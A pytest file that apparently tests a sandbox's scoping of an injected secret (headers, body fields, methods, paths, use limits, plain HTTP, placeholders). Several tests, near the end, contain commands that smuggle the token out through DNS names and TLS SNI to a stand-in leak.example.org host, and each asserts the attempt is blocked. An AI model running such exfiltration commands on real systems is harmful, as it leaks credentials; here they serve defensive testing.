# SPDX-License-Identifier: Apache-2.0
"""What narrows a secret, as users set it up; and placeholders in names."""

import json

import pytest
from conftest import wait_for

CODE = "curl -sS -o /dev/null -w '%%{http_code} ' %s; "
EVERYTHING = {"policy": {"default_egress": "allow"}}


def secret(options="", host="api.example.com"):
    return ["--secret", "LAB_TOKEN%s@%s" % (options, host)]


def config(weir, **more):
    return weir.file("c.json", json.dumps({"secrets": [dict(
        {"env": "LAB_TOKEN", "hosts": ["api.example.com"]}, **more)]}))


@pytest.mark.user
def test_s06_s13_named_header(weir):
    r = weir.sh(CODE % "-H \"X-Key: $LAB_TOKEN\" https://api.example.com/x"
                + CODE % "-H \"X-Other: $LAB_TOKEN\" https://api.example.com/x",
                flags=secret(":header:X-Key"))
    assert r.out.split() == ["200", "403"], r
    used = r.find("secret", event="used")[0]
    assert (used["name"], used["path"], used["method"], used["uses"]) == ("X-Key", "/x", "GET", 1), r
    assert r.find("secret", event="violation")[0]["detail"] == "not in the field or key it is for", r


@pytest.mark.user
def test_s13_methods_paths_and_uses(weir):
    c = config(weir, methods=["GET"], paths=["/ok/**"], max_uses=2)
    get = "-H \"Authorization: Bearer $LAB_TOKEN\" https://api.example.com"
    r = weir.sh(CODE % ("-X POST " + get + "/ok/a") + CODE % (get + "/other")
                + (CODE % (get + "/ok/b")) * 3, flags=["--config", c])
    assert r.out.split() == ["403", "403", "200", "200", "403"], r
    assert [e["detail"] for e in r.find("secret", event="violation")] == [
        "method not allowed", "path not allowed", "used up"], r
    assert [e["uses"] for e in r.find("secret", event="used")] == [1, 2], r


@pytest.mark.netns("forty handshakes at once outlast their ten seconds without KVM")
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_s13_uses_are_not_raced_for(weir, h2, lab, version):
    """Forty requests at once, on one connection or many: as many go out as there are uses."""
    c = weir.file("r.json", {"secrets": [{"env": "LAB_TOKEN", "hosts": ["h2.example.com"], "max_uses": 3}]})
    urls = "".join("url = https://h2.example.com/echo?%d\noutput = /dev/null\n" % i for i in range(40))
    r = weir.sh("curl -sS %s --parallel --parallel-immediate --parallel-max 40 -H \"X-Key: $LAB_TOKEN\" "
                "-w '%%{http_code}\\n' --config %s" % (version, weir.file("urls", urls)),
                flags=["--config", c], policy={"default_egress": "allow"})
    assert sorted(r.out.split()) == ["200"] * 3 + ["403"] * 37, r
    assert sorted(e["uses"] for e in r.find("secret", event="used")) == [1, 2, 3], r


@pytest.mark.user
def test_s03_named_field_of_a_body(weir, lab):
    c = config(weir, at=["body:auth.token"])
    send = "-H 'Content-Type: application/json' -d \"%s\" https://api.example.com/x"
    r = weir.sh(CODE % (send % "{\\\"auth\\\": {\\\"token\\\": \\\"$LAB_TOKEN\\\"}}")
                + CODE % (send % "{\\\"note\\\": \\\"$LAB_TOKEN\\\"}"), flags=["--config", c])
    assert r.out.split() == ["200", "403"], r
    bodies = [e["body"] for e in lab.seen("http") if lab.token in e["body"]]
    assert bodies == ['{"auth": {"token": "%s"}}' % lab.token], bodies


@pytest.mark.user
def test_s01_placeholder_of_a_given_shape(weir):
    r = weir.sh("echo \"$LAB_TOKEN\"; curl -sS -H \"Authorization: Bearer $LAB_TOKEN\" "
                "https://api.example.com/x", flags=secret(":placeholder:tok_########-********"))
    shape, reply = r.out.split("\n", 1)
    assert shape.startswith("tok_") and shape[4:12].isdigit() and len(shape) == 21, r
    # Of another length than the value: the request says its own, and the echo holds the placeholder.
    assert json.loads(reply)["authorized"] is True and shape in reply, r


# Parity: weak-20.
@pytest.mark.user
def test_s05_lesson_38_passthrough_host(weir, lab):
    r = weir.sh(CODE % "-d \"my key is $LAB_TOKEN\" https://files.example.com/x",
                flags=secret(":passthrough:files.example.com"))
    assert r.out.split() == ["200"] and not r.find("secret"), r


@pytest.mark.user
def test_s04_lesson_36_plain_http(weir):
    call = CODE % "-H \"Authorization: Bearer $LAB_TOKEN\" http://api.example.com/x"
    r = weir.sh(call, flags=secret())
    assert r.out.split() == ["403"] and r.find("secret")[0]["detail"] == "plain http", r
    r = weir.sh(call, flags=secret(":plain-http"))
    assert r.out.split() == ["200"] and r.find("secret", event="used")[0]["detail"] == "plain http", r


@pytest.mark.user
def test_s07_placeholder_in_a_dns_name(weir, lab):
    r = weir.sh("getent ahosts \"$(printf %s \"$LAB_TOKEN\" | tr _ -).leak.example.org\"; echo $?; "
                "getent ahosts \"$(printf %s \"$LAB_TOKEN\" | od -An -tx1 | tr -d ' \\n' | "
                "sed 's/./&/60;s/^.\\{60\\}/&./').leak.example.org\"; echo $?",
                policy=EVERYTHING, flags=secret())
    assert r.out.split() == ["2", "2"], r
    seen = r.find("secret", event="violation")
    assert {(e["protocol"], e["place"], e["encoding"]) for e in seen} == {
        ("dns", "name", "plain"), ("dns", "name", "hex")}, r
    assert not [q for q in lab.seen("dns") if "leak.example.org" in q.get("name", "")], "asked upstream"


@pytest.mark.user
def test_s07_placeholder_in_a_tls_name(weir):
    r = weir.sh("echo | timeout 5 openssl s_client -connect api.example.com:443 -servername "
                "\"$(printf %s \"$LAB_TOKEN\" | tr _ -).example.org\" 2>&1 | grep -c BEGIN",
                policy=EVERYTHING, flags=secret())
    assert r.out.split() == ["0"], r
    assert wait_for(lambda: r.find("secret", event="violation", protocol="sni")), r


def test_s05_name_that_ends_the_sandbox(weir):
    r = weir.sh("getent ahosts \"$(printf %s \"$LAB_TOKEN\" | tr _ -).leak.example.org\"; sleep 5; echo on",
                policy=EVERYTHING, flags=secret() + ["--secret-violation", "block_and_terminate"])
    assert r.rc == 125 and "on" not in r.out.split() and "LAB_TOKEN" in r.err, r
